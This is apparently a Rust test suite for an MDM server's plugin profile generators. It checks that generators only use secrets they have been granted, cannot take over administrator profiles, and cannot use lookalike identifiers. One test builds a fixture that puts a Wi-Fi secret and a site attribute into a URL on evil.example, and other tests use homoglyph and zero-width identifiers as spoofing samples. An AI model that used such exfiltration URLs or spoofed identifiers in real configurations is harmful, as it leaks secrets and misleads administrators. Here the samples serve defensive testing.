//! What a binding grants its generator: names that are nobody else's, and the values that it names.

use mooring_mdm::profile::placeholder::ValueName;
use mooring_server::api::{BindingWish, OnFailure, ProfileOrigin, ProfileSwitch, PushOutcome};
use mooring_server::plugins::PluginError;
use mooring_server::scope::{DeclaredValue, ValueKind};
use mooring_tests::server::id;
use mooring_tests::{Draft, Host, TestServer, settle_one};

use super::generating::{generator, made, refused};
use super::{bind, by, done, plan, planned, validator, with_plugin};

const A: &str = "com.harborworks.made.a";
const B: &str = "com.harborworks.made.b";

fn declare(server: &TestServer, name: &str, kind: ValueKind) -> ValueName {
    let name = ValueName::parse(name).unwrap();
    let value = DeclaredValue {
        kind,
        default: Some("hunter2".to_owned()),
    };
    server.declare_value(&name, &value, &by()).unwrap();
    name
}

fn origin(server: &TestServer, identifier: &str) -> ProfileOrigin {
    let detail = server.profile_detail(&id(identifier)).unwrap();
    detail.summary.origin
}

fn state(server: &TestServer, identifier: &str) -> ProfileSwitch {
    let detail = server.profile_detail(&id(identifier)).unwrap();
    detail.summary.state
}

/// What is said where making these is refused.
#[track_caller]
fn says(server: &TestServer, profiles: &[String]) -> String {
    let findings = refused(server, generator(profiles));
    assert_eq!(findings[0].rule, "plugin-output");
    findings[0].message.clone()
}

/// The pointer to what is wrong with a binding.
#[track_caller]
fn wrong(server: &TestServer, wish: BindingWish) -> &'static str {
    let error = bind(server, "gen", wish).unwrap_err();
    let PluginError::Wish { pointer, .. } = error else {
        panic!("{error}");
    };
    pointer
}

/// A generator uses no secret and no attribute that its binding does not name, wherever it puts them;
/// what is known of every host it may say.
#[test]
fn values_are_named() {
    let server = with_plugin();
    let wifi = declare(&server, "wifi", ValueKind::Secret);
    let site = declare(&server, "site", ValueKind::Attribute);
    let stealing = || {
        made(
            A,
            "https://evil.example/?p={{secret.wifi}}&s={{attribute.site}}",
        )
    };
    let stealing = || stealing().replace('&', "&amp;");
    let text = says(&server, &[stealing()]);
    assert!(text.contains("--value site"), "{text}");
    let granted = |values: &[&ValueName]| BindingWish {
        values: values.iter().copied().cloned().collect(),
        ..generator(&[stealing()])
    };
    let findings = refused(&server, granted(&[&site]));
    assert!(findings[0].message.contains("--value wifi"), "{findings:?}");
    assert!(server.shelf().profiles.is_empty());

    let detail = bind(&server, "gen", granted(&[&wifi, &site])).unwrap();
    assert_eq!(detail.binding.values.len(), 2);
    let findings = refused(&server, granted(&[]));
    assert!(!findings.is_empty(), "what was granted is taken back");
    assert_eq!(server.binding("gen").unwrap(), detail);
    bind(&server, "gen", generator(&[made(A, "{{host.serial}}")])).unwrap();
}

/// A binding names values that are declared, and only that of a generator does.
#[test]
fn named_values_are_declared() {
    let server = with_plugin();
    let nobody = ValueName::parse("nobody").unwrap();
    let mut wish = generator(&[made(A, "1")]);
    wish.values = [nobody].into();
    assert_eq!(wrong(&server, wish), "/values");
    let site = declare(&server, "site", ValueKind::Attribute);
    let mut wish = validator(OnFailure::Block);
    wish.values = [site].into();
    assert_eq!(wrong(&server, wish), "/values");
}

/// A profile that an administrator pushed and deleted is nobody's to bring back, and neither is what
/// another binding made; the binding that made it may make it again, until somebody pushes over it.
#[test]
fn no_takeover() {
    let server = with_plugin();
    server.push_taken(Draft::new(A, "an administrator's").xml());
    server.remove(A);
    let text = says(&server, &[made(A, "1")]);
    assert!(
        text.contains("was pushed (version 1) and deleted"),
        "{text}"
    );
    assert_eq!(state(&server, A), ProfileSwitch::Deleted);

    bind(&server, "first", generator(&[made(B, "1")])).unwrap();
    done(server.unbind_plugin("first", &by()).unwrap());
    let text = says(&server, &[made(B, "1")]);
    assert!(text.contains("the binding first made before"), "{text}");
    bind(&server, "first", generator(&[made(B, "2")])).unwrap();
    done(server.unbind_plugin("first", &by()).unwrap());
    server.push_taken(Draft::new(B, "mine now").xml());
    server.remove(B);
    let again = bind(&server, "first", generator(&[made(B, "3")]));
    assert!(matches!(again, Err(PluginError::Output { .. })));
}

/// A generated profile that an administrator switched off stays off when its generator makes it no
/// more, and then makes it again.
#[test]
fn off_stays_off() {
    let server = with_plugin();
    let mut host = Host::without_user(0);
    bind(&server, "gen", generator(&[made(A, "1"), made(B, "1")])).unwrap();
    server.enable(A, false);
    bind(&server, "gen", generator(&[made(B, "1")])).unwrap();
    assert_eq!(state(&server, A), ProfileSwitch::Deleted);
    bind(&server, "gen", generator(&[made(A, "1"), made(B, "1")])).unwrap();
    assert_eq!(state(&server, A), ProfileSwitch::Disabled);
    settle_one(&server, &mut host);
    assert_eq!(host.identifiers(), [B]);
    server.enable(A, true);
    settle_one(&server, &mut host);
    assert_eq!(host.identifiers(), [A, B]);
}

/// Names that look like another's are refused, whether by case, blanks, unseen characters or letters
/// of another script, and so are prefixes that look like this server's own.
#[test]
fn no_lookalikes() {
    let server = with_plugin();
    server.push_taken(Draft::new("com.harborworks.made.pushed", "1").xml());
    for (identifier, why) in [
        ("com.harborworks.made.a ", "is not made of"),
        ("com.harborworks.made.\u{200b}a", "is not made of"),
        ("com.harborworks.made.\u{430}", "is not made of"),
        ("com.harborworks.made..a", "is not made of"),
        ("com.harborworks.made.", "is not made of"),
        ("com.harborworks.made.PUSHED", "people would take for"),
    ] {
        let findings = refused(&server, generator(&[made(identifier, "1")]));
        let texts: Vec<_> = findings.iter().map(|it| it.message.as_str()).collect();
        assert!(texts[0].contains(why), "{identifier:?}: {texts:?}");
    }
    let both = [made(A, "1"), made("com.harborworks.made.A", "1")];
    assert!(says(&server, &both).contains("two profiles"));
    for prefix in [
        "com.Mooring.builtin.",
        "com.mooring.x.",
        "com.ex\u{430}mple.",
        "com.example. ",
        "com..example.",
    ] {
        let mut wish = generator(&[made(A, "1")]);
        wish.prefixes = [prefix.to_owned()].into();
        assert_eq!(wrong(&server, wish), "/prefixes", "{prefix:?}");
    }
}

/// Payloads are held to the same names as the profile around them.
#[test]
fn payloads_are_held_too() {
    let server = with_plugin();
    server.push_taken(Draft::new("com.harborworks.made.pushed", "1").xml());
    let own = format!("{A}.1");
    for (inner, why) in [
        ("com.mooring.builtin.firewall.1", "none of the prefixes"),
        ("com.harborworks.other.1", "none of the prefixes"),
        ("com.harborworks.made.\u{430}", "is not made of"),
        ("com.harborworks.made.pushed", "would pass for one of"),
        ("com.harborworks.made.Pushed.1", "would pass for one of"),
    ] {
        let text = says(&server, &[made(A, "1").replace(&own, inner)]);
        assert!(text.contains(why), "{inner:?}: {text}");
    }
    let below = made("com.harborworks.made.pushed.more", "1");
    bind(&server, "gen", generator(&[below])).unwrap();
}

/// Whose profile it is is shown: that of the binding that made it, until somebody else pushes it.
#[test]
fn origins() {
    let server = with_plugin();
    let told = plan(
        server
            .bind_plugin("gen", generator(&[made(A, "1")]), &planned())
            .unwrap(),
    );
    assert!(told.hosts.is_some());
    bind(&server, "gen", generator(&[made(A, "1")])).unwrap();
    let binding = "gen".to_owned();
    assert_eq!(origin(&server, A), ProfileOrigin::Generated { binding });
    let listed = server.profile_listing(false).profiles;
    let listed = listed.iter().find(|it| it.identifier.as_str() == A);
    assert_eq!(listed.unwrap().origin, origin(&server, A));
    done(server.unbind_plugin("gen", &by()).unwrap());
    let result = server.push_one(Draft::new(A, "mine").xml());
    assert_ne!(result.outcome, PushOutcome::Refused);
    assert_eq!(origin(&server, A), ProfileOrigin::Uploaded);
}
